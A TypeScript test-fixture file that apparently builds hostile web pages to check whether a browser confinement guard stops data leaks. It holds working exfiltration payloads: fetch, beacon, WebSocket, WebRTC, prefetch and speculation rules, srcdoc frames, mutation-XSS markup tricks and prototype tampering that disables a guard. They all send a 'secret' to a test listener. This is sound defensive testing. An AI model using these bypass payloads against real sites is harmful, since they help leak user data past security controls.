import type { Listening } from './listening.js'

/** Tries to reach another browser by WebRTC, as scripts do where nothing confines them. */
const peer = (udpPort: number): string =>
  `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))`

/** Goes as far as it gets, each step by itself. */
const steps = (...all: readonly string[]): string =>
  `<script>${all.map((step) => `try { ${step} } catch (error) { void error }`).join('\n')}</script>`

/** A script in a script. */
const inner = (text: string): string => `'<scr' + 'ipt>' + ${JSON.stringify(text)} + '</scr' + 'ipt>'`

/** What pages of an attacker do to tell something to a place in the network, by what they use. */
export function hostilePages({ host, udpPort }: Pick<Listening, 'host' | 'udpPort'>): Readonly<Record<string, string>> {
  const at = (name: string): string => `http://${host}/${name}?secret`
  const rtc = peer(udpPort)
  return {
    requests: steps(
      `fetch('${at('fetch')}', { mode: 'no-cors' })`,
      `navigator.sendBeacon('${at('beacon')}', 'x')`,
      `const r = new XMLHttpRequest(); r.open('GET', '${at('xhr')}'); r.send()`,
      `new WebSocket('ws://${host}/socket')`,
      `new EventSource('${at('events')}')`,
      `new WebTransport('https://${host}/transport')`,
      `import('${at('import')}')`,
      `new Worker(URL.createObjectURL(new Blob(["fetch('${at('worker')}')"])))`,
      `new SharedWorker('${at('shared-worker')}')`,
      `navigator.serviceWorker.register('${at('service-worker')}')`,
    ),
    elements: `<img src="${at('img')}" srcset="${at('srcset')} 2x"><video src="${at('video')}" poster="${at('poster')}" autoplay></video><audio src="${at('audio')}" autoplay></audio>
      <script src="${at('script')}"></script><link rel="stylesheet" href="${at('style')}"><style>@import url(${at('css-import')}); @font-face { font-family: x; src: url(${at('font')}) } body { background: url(${at('background')}); font-family: x; cursor: url(${at('cursor')}), auto }</style>
      <svg><image href="${at('svg-image')}"/><use href="${at('svg-use')}#x"/></svg><input type="image" src="${at('input')}"><body background="${at('body')}">
      <object data="${at('object')}"></object><embed src="${at('embed')}"><iframe src="${at('iframe')}"></iframe><frameset><frame src="${at('frame')}"></frameset>`,
    hints: ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest', 'alternate stylesheet']
      .map((rel) => `<link rel="${rel}" as="script" href="${at(rel)}">`)
      .join('\n'),
    'hints by scripts': steps(
      `const a = document.createElement('link'); a.rel = 'prefetch'; a.href = '${at('made')}'; document.head.append(a)`,
      `const b = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'); b.setAttribute('rel', 'prefetch'); b.setAttribute('href', '${at('namespace')}'); document.head.append(b)`,
      `document.body.innerHTML += '<LINK\\nrel=prefetch href="${at('markup')}">'`,
      `document.write('<li'); document.write('nk rel=prefetch href="${at('split')}">')`,
      `document.head.append(new DOMParser().parseFromString('<x:link xmlns:x="http://www.w3.org/1999/xhtml" rel="prefetch" href="${at('xml')}"/>', 'text/xml').documentElement)`,
      `document.head.append(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;x:link xmlns:x=&#39;http://www.w3.org/1999/xhtml&#39; rel=&#39;prefetch&#39; href=&#39;${at('entity')}&#39;/&#62;">]><a>&e;</a>', 'text/xml').documentElement)`,
      `globalThis.madeLinks = [document.createElement('link'), document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'x:link').documentElement].filter((each) => each instanceof HTMLLinkElement).length`,
      `customElements.define('x-link', class extends HTMLLinkElement {}, { extends: 'link' }); const d = document.createElement('link', { is: 'x-link' }); d.rel = 'prefetch'; d.href = '${at('custom')}'; document.head.append(d)`,
      `document.body.setHTML('<link rel="prefetch" href="${at('set-html')}">', { sanitizer: {} })`,
      `document.execCommand('insertHTML', false, '<link rel="prefetch" href="${at('command')}">')`,
      `document.head.append(document.createRange().createContextualFragment('<link rel="prefetch" href="${at('fragment')}">'))`,
      `const t = document.createElement('template'); t.innerHTML = '<link rel="prefetch" href="${at('template')}">'; document.head.append(t.content.cloneNode(true))`,
      `const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<link rel="prefetch" href="${at('shadow')}">'`,
      `const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({ prefetch: [{ urls: ['${at('rules')}'] }], prerender: [{ urls: ['${at('rules-prerender')}'] }] }); document.head.append(s)`,
    ),
    'hints after it has changed what the guard uses': steps(
      `for (const name of ['indexOf', 'slice', 'startsWith', 'toLowerCase', 'toUpperCase']) String.prototype[name] = () => ''`,
      `Array.prototype[Symbol.iterator] = function* () {}; Reflect.apply = () => undefined; RegExp.prototype.exec = () => null`,
      `Object.defineProperty(Array.prototype, '0', { set() {} })`,
      `document.head.innerHTML = '<link rel="prefetch" href="${at('tampered')}">'`,
      `const a = document.createElement('link'); a.rel = 'prefetch'; a.href = '${at('tampered-made')}'; document.head.append(a)`,
    ),
    'a connection to another browser': steps(rtc),
    'a connection from a frame of its own': steps(
      `const f = document.createElement('iframe'); f.srcdoc = ${inner(rtc)}; document.body.append(f)`,
      `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + ${inner(rtc)}.replaceAll('"', '&quot;') + '"></iframe>')`,
      `const g = document.createElement('iframe'); document.body.append(g); g.contentWindow.RTCPeerConnection && g.contentWindow.eval(${JSON.stringify(rtc)})`,
      `const h = document.createElement('object'); h.data = 'data:text/html,' + ${inner(rtc)}; document.body.append(h)`,
      `open('about:blank').eval(${JSON.stringify(rtc)})`,
    ),
    'a frame in its markup': `<iframe srcdoc="<script>${rtc.replaceAll('"', '&quot;')}</script>"></iframe>
      <noscript><p title="</noscript><iframe srcdoc='<script>${rtc.replaceAll("'", '&#39;')}</script>'></iframe>"></p></noscript>
      <div><template shadowrootmode="open"><link rel="prefetch" href="${at('declared-shadow')}"></template></div>
      <xmp><p title="</xmp><link rel=prefetch href=${at('mutated')}>"></xmp>`,
    'a link, a form and a window': steps(
      `const a = document.createElement('a'); a.href = '${at('link')}'; a.target = '_top'; a.ping = '${at('ping')}'; document.body.append(a); a.click()`,
      `const b = document.createElement('a'); b.href = '${at('download')}'; b.download = 'x'; document.body.append(b); b.click()`,
      `const f = document.createElement('form'); f.action = '${at('form')}'; f.method = 'post'; document.body.append(f); f.submit()`,
      `const g = document.createElement('form'); g.action = '${at('form-top')}'; g.target = '_top'; document.body.append(g); g.submit()`,
      `open('${at('window')}')`,
      `top.location = '${at('top')}'`,
      `parent.location = '${at('parent')}'`,
    ),
    'its own address': `<script>location = '${at('location')}'</script>`,
    'its own address, by the service': `<script>location = '/api/auth/config'</script>`,
    'its own address, later': `<script>addEventListener('load', () => setTimeout(() => { location.href = '${at('later')}' }))</script>`,
    'a refresh': `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`,
    'a refresh by a script': steps(
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${at('refresh-made')}'; document.head.append(m)`,
    ),
    'a link that it follows itself': `<a id="a" href="${at('self-link')}">x</a><script>a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))</script>`,
    'a form that it sends itself': `<form id="f" action="${at('self-form')}"><input name="x" value="secret"></form><script>f.requestSubmit()</script>`,
    'hints of a page whose elements have the names of its parts': `<script>const a = document.createElement('link'); a.rel = 'prefetch'; a.href = '${at('named')}'; document.documentElement.append(a); ${rtc}</script><img name="head">`,
    'a connection of a page whose elements have the names of its parts': `<form name="head"></form><script>${rtc}</script><img name="documentElement">`,
    'a text that it becomes by a script': `<script>const text = '<link rel=prefetch href="${at('text')}">' + ${inner(rtc)}; location = 'javascript:' + encodeURIComponent(JSON.stringify(text)); addEventListener('load', () => { location = 'javascript:' + encodeURIComponent(JSON.stringify(text)) })</script>`,
    'a base for all addresses': `<base href="http://${host}/"><img src="base"><script>fetch('base-fetch')</script>`,
  }
}
